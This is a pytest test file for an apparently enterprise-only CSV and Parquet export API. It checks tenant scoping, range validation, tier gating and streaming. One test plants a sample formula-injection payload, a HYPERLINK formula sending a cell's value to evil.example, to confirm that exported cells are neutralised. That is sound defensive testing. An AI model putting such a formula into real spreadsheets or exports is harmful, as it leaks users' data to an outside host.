"""Bulk export (Enterprise): CSV and Parquet of aggregates and alerts, streamed, scoped, within history."""

import csv
import io
from datetime import UTC, datetime, timedelta

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from fastapi import FastAPI

from altaviz.accounts.roles import Role
from altaviz.billing import export
from tests.api.world import COMPRESSORS, HOURS, SeededOrg, key_client, member_client, seed_organization


def test_aggregates_as_csv(app: FastAPI, org_a: SeededOrg, org_b: SeededOrg) -> None:
    response = key_client(app, org_a.api_keys[Role.VIEWER]).get("/api/export/aggregates")
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    disposition = response.headers["content-disposition"]
    assert disposition.startswith('attachment; filename="altaviz-aggregates-alpha-') and disposition.endswith(
        '.csv"'
    )
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert len(rows) == HOURS * len(org_a.compressors)
    assert {row["compressor_id"] for row in rows} == set(org_a.compressors)
    assert "organization_id" not in rows[0] and "id" not in rows[0]
    first = rows[0]
    assert datetime.fromisoformat(first["agg_timestamp"]).tzinfo is not None
    assert first["compressor_id"] == "ALPHA-9"  # by compressor, then time
    assert float(first["vibration_mean"]) == 13.0 and first["window_type"] == "1hr"
    assert org_b.marker.upper() not in response.text  # BRAVO-9 is B's compressor

    one = key_client(app, org_a.api_keys[Role.VIEWER]).get(
        "/api/export/aggregates", params={"compressor": "COMP-002"}
    )
    assert {row["compressor_id"] for row in csv.DictReader(io.StringIO(one.text))} == {"COMP-002"}


def test_alerts_as_parquet(app: FastAPI, org_a: SeededOrg) -> None:
    response = member_client(app, org_a.users[Role.VIEWER]).get(
        "/api/export/alerts", params={"format": "parquet"}
    )
    assert response.status_code == 200
    assert response.headers["content-type"] == "application/vnd.apache.parquet"
    table = pq.read_table(io.BytesIO(response.content))
    assert table.num_rows == len(org_a.alert_ids)
    assert set(table.column("id").to_pylist()) == set(org_a.alert_ids.values())
    assert table.schema.field("alert_timestamp").type == pa.timestamp("us", tz="UTC")
    assert table.schema.field("resolved").type == pa.bool_()
    assert "organization_id" not in table.schema.names
    assert all(message.startswith("Alpha") for message in table.column("message").to_pylist())


def test_a_range_is_clamped_and_checked(app: FastAPI, org_a: SeededOrg) -> None:
    client = key_client(app, org_a.api_keys[Role.VIEWER])
    since = (datetime.now(UTC) - timedelta(hours=10)).isoformat()
    rows = list(
        csv.DictReader(io.StringIO(client.get("/api/export/aggregates", params={"start": since}).text))
    )
    assert 9 * len(COMPRESSORS) <= len(rows) <= 11 * len(org_a.compressors)
    backwards = client.get(
        "/api/export/aggregates",
        params={
            "start": datetime.now(UTC).isoformat(),
            "end": (datetime.now(UTC) - timedelta(days=1)).isoformat(),
        },
    )
    assert backwards.status_code == 422
    naive = client.get("/api/export/aggregates", params={"start": "2026-01-01T00:00:00"})
    assert naive.status_code == 422
    assert client.get("/api/export/aggregates", params={"format": "xlsx"}).status_code == 422


def test_export_is_enterprise_only(app: FastAPI) -> None:
    pro = seed_organization(app.state.engine, "bravo", "Bravo", tier="pro")
    response = key_client(app, pro.api_keys[Role.VIEWER]).get("/api/export/aggregates")
    assert response.status_code == 403
    assert response.json()["code"] == "upgrade_required" and "Enterprise" in response.json()["error"]


def test_parquet_is_written_one_row_group_per_batch(
    app: FastAPI, org_a: SeededOrg, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(export, "BATCH_ROWS", 50)
    response = key_client(app, org_a.api_keys[Role.VIEWER]).get(
        "/api/export/aggregates", params={"format": "parquet"}
    )
    parquet = pq.ParquetFile(io.BytesIO(response.content))
    total = HOURS * len(org_a.compressors)
    assert parquet.metadata.num_rows == total
    assert parquet.metadata.num_row_groups == -(-total // 50)  # streamed batch by batch


def test_an_empty_export_is_a_valid_file(app: FastAPI, org_a: SeededOrg) -> None:
    client = key_client(app, org_a.api_keys[Role.VIEWER])
    params = {"compressor": "NO-SUCH-1", "format": "parquet"}
    table = pq.read_table(io.BytesIO(client.get("/api/export/alerts", params=params).content))
    assert table.num_rows == 0 and "alert_timestamp" in table.schema.names
    text = client.get("/api/export/alerts", params={"compressor": "NO-SUCH-1"}).text
    assert text.splitlines()[0].startswith("id,compressor_id") and len(text.splitlines()) == 1


def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised(
    app: FastAPI, org_a: SeededOrg
) -> None:
    note = '=HYPERLINK("http://evil.example/?d="&A2,"open")'
    operator = member_client(app, org_a.users[Role.OPERATOR])
    resolved = operator.post(f"/api/alerts/{org_a.alert_ids['critical']}/resolve", json={"note": note})
    assert resolved.status_code == 200, resolved.text
    response = key_client(app, org_a.api_keys[Role.VIEWER]).get("/api/export/alerts")
    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(response.text))}
    row = rows[str(org_a.alert_ids["critical"])]
    assert row["resolution_note"] == "'" + note  # OWASP: a leading quote makes it text
    assert float(row["sensor_value"]) == 9.0  # numbers are left as numbers
    assert [export.csv_safe(v) for v in ("+1", "-x", "@SUM(A1)", "\tcmd", "\rcmd", "ok", "")] == [
        "'+1",
        "'-x",
        "'@SUM(A1)",
        "'\tcmd",
        "'\rcmd",
        "ok",
        "",
    ]
    assert export.csv_safe(-3.5) == -3.5
